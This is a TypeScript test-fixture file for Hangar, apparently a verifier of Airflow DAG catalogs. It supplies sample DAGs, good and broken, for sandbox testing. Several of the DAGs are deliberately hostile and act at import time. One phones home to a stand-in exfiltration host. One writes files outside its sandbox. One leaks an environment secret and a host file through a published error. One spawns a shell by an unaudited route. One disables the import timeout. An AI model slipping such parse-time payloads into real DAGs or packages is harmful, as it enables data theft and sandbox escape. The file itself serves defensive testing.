import { existsSync, mkdirSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { startGitHttpServer, type GitHttpServer } from '../../support/gitHttpServer';
import { git, gitRepo, sha256 } from './catalogRepos';

/** Catalog entries for verification tests: what each DAG does at parse time is what the test checks. */

/** Reads a variable and a connection in its tasks, as a real template would: dag.test() runs with Hangar's stubs. */
export const GOOD_DAG = `"""Warehouse report.

Reads a variable and a connection, as a real template would.
"""
import pendulum
from airflow.sdk import BaseHook, Variable, dag, task


@dag(schedule=None, start_date=pendulum.datetime(2026, 1, 1), catchup=False)
def warehouse_report():
    @task
    def extract():
        bucket = Variable.get("export_bucket")
        host = BaseHook.get_connection("warehouse").host
        print(f"exporting to {bucket} from {host}")
        return 3

    @task
    def publish(rows: int):
        print(f"published {rows} rows")

    publish(extract())


warehouse_report()
`;

/** Imports cleanly; its second task fails when dag.test() runs it. */
export const FAILING_TASK_DAG = `"""Fails at run time."""
import pendulum
from airflow.sdk import dag, task


@dag(schedule=None, start_date=pendulum.datetime(2026, 1, 1), catchup=False)
def flaky_export():
    @task
    def extract():
        return 1

    @task
    def load(rows: int):
        raise RuntimeError(f"warehouse rejected {rows} row(s)")

    load(extract())


flaky_export()
`;

/** Parses cleanly for Hangar's static analysis; Airflow's import fails on the start date. */
export const BROKEN_DAG = `"""Nightly export."""
import pendulum
from airflow.sdk import DAG
from airflow.providers.standard.operators.empty import EmptyOperator

with DAG("nightly_export", schedule="@daily", start_date=pendulum.datetime(2026, 13, 1)):
    EmptyOperator(task_id="start")
`;
export const BROKEN_ERROR = 'month must be in 1..12';

/** Never finishes importing, and Airflow's own import timeout (SIGALRM) cannot interrupt it. */
export const HANG_DAG = `"""Hangs."""
import signal
import time
from airflow.sdk import DAG

signal.signal(signal.SIGALRM, signal.SIG_IGN)
while True:
    time.sleep(1)
`;

const literal = (text: string): string => JSON.stringify(text);

/** Connects to a listener of the test and looks a name up at parse time, hiding both failures. */
export const netDag = (port: number): string => `"""Phones home."""
import socket
import urllib.request
from airflow.sdk import DAG

for attempt in (
    lambda: socket.create_connection(("127.0.0.1", ${port}), timeout=3),
    lambda: urllib.request.urlopen("http://hangar-exfiltration.invalid/collect", timeout=3),
):
    try:
        attempt()
    except OSError:
        pass

with DAG("phones_home", schedule=None):
    pass
`;

/** Plants a file outside its sandbox and one beside itself in its catalog copy. */
export const writeDag = (marker: string): string => `"""Writes outside."""
import pathlib
from airflow.sdk import DAG

for target in (pathlib.Path(${literal(marker)}), pathlib.Path(__file__).with_name("planted.py")):
    try:
        target.write_text("planted")
    except OSError:
        pass

with DAG("writes_outside", schedule=None):
    pass
`;

/** Tries to copy an environment variable and a host file into its import error, which is published. */
export const leakDag = (secretFile: string): string => `"""Leaks."""
import os
from airflow.sdk import DAG

found = os.environ.get("HANGAR_SECRET_PROBE", "no secret in the environment")
try:
    found += " / " + open(${literal(secretFile)}).read()
except OSError:
    pass
raise ValueError(found)
`;

/** Starts a shell through multiprocessing's fork_exec, a route without an audit event of its own. */
export const spawnDag = (marker: string): string => `"""Spawns."""
import os
from multiprocessing.util import spawnv_passfds
from airflow.sdk import DAG

try:
    os.waitpid(spawnv_passfds(b"/bin/sh", ["/bin/sh", "-c", ${literal(`echo planted > ${marker}`)}], []), 0)
except OSError:
    pass

with DAG("spawns", schedule=None):
    pass
`;

export const HUGE_DAG = `"""Huge."""\n${'# padding to pass the 1 MB limit\n'.repeat(70_000)}`;

interface EntrySpec {
  id: string;
  file: string;
  text: string;
  dagTest?: boolean;
  providers?: { name: string; version?: string }[];
}

/** Files of a Hangar catalog with these entries (sha256 of each DAG in the index). */
export function verifyCatalogFiles(specs: readonly EntrySpec[]): Record<string, string> {
  const entries = specs.map((s) => ({
    id: s.id,
    title: `Entry ${s.id}`,
    version: '1.0.0',
    category: 'tests',
    source: { path: s.file },
    sha256: sha256(s.text),
    providers: s.providers ?? [{ name: 'apache-airflow-providers-standard' }],
    ...(s.dagTest ? { verify: { dag_test: true } } : {}),
  }));
  return { 'hangar-catalog.json': `${JSON.stringify({ entries }, null, 2)}\n`, ...Object.fromEntries(specs.map((s) => [s.file, s.text])) };
}

export interface ServedCatalog {
  server: GitHttpServer;
  /** The catalog's URL over git smart HTTP (basic auth). */
  url: string;
  /** A maintainer's clone, where verify --write runs and commits are pushed from. */
  clone: string;
  /** airflow-repos.yaml naming the catalog `team` with basic auth; the secrets are in `env`. */
  config: string;
  env: Record<string, string>;
  push(message: string): void;
}

const USER = 'catalog-ci';
const PASSWORD = 'catalog-secret-7c1e';

/** A catalog repository served by git http-backend with basic auth, and a maintainer's clone of it. */
export async function serveCatalog(dir: string, files: Record<string, string>): Promise<ServedCatalog> {
  const source = gitRepo(dir, 'catalog-source', files);
  const served = path.join(dir, 'served');
  mkdirSync(served, { recursive: true });
  git(dir, 'clone', '-q', '--bare', source, path.join(served, 'catalog.git'));
  const server = await startGitHttpServer({ projectRoot: served, username: USER, password: PASSWORD });
  const url = `${server.url}/catalog.git`;
  const clone = path.join(dir, 'maintainer');
  git(dir, 'clone', '-q', path.join(served, 'catalog.git'), clone);
  const config = path.join(dir, 'airflow-repos.yaml');
  writeFileSync(config, `catalogs:\n  - name: team\n    url: ${url}\n    ref: main\n    auth: basic\n`);
  return {
    server,
    url,
    clone,
    config,
    env: { HANGAR_GIT_USERNAME_TEAM: USER, HANGAR_GIT_PASSWORD_TEAM: PASSWORD },
    push: (message) => {
      git(clone, 'add', '-A');
      git(clone, 'commit', '-q', '-m', message);
      git(clone, 'push', '-q', 'origin', 'HEAD:main');
    },
  };
}

/**
 * The test harness's Airflow 3.3.2 interpreter, `reuse` (the environment that lets verification use it for entries
 * it has the providers of) and `uv` (the uv of its venv; without one there, verification installs its own).
 */
export function harnessTools(python: string): { uv: Record<string, string>; reuse: Record<string, string> } {
  const uv = path.join(path.dirname(python), 'uv');
  return { uv: existsSync(uv) ? { HANGAR_UV: uv } : {}, reuse: { HANGAR_VERIFY_PYTHONS: `3.3.2=${python}` } };
}
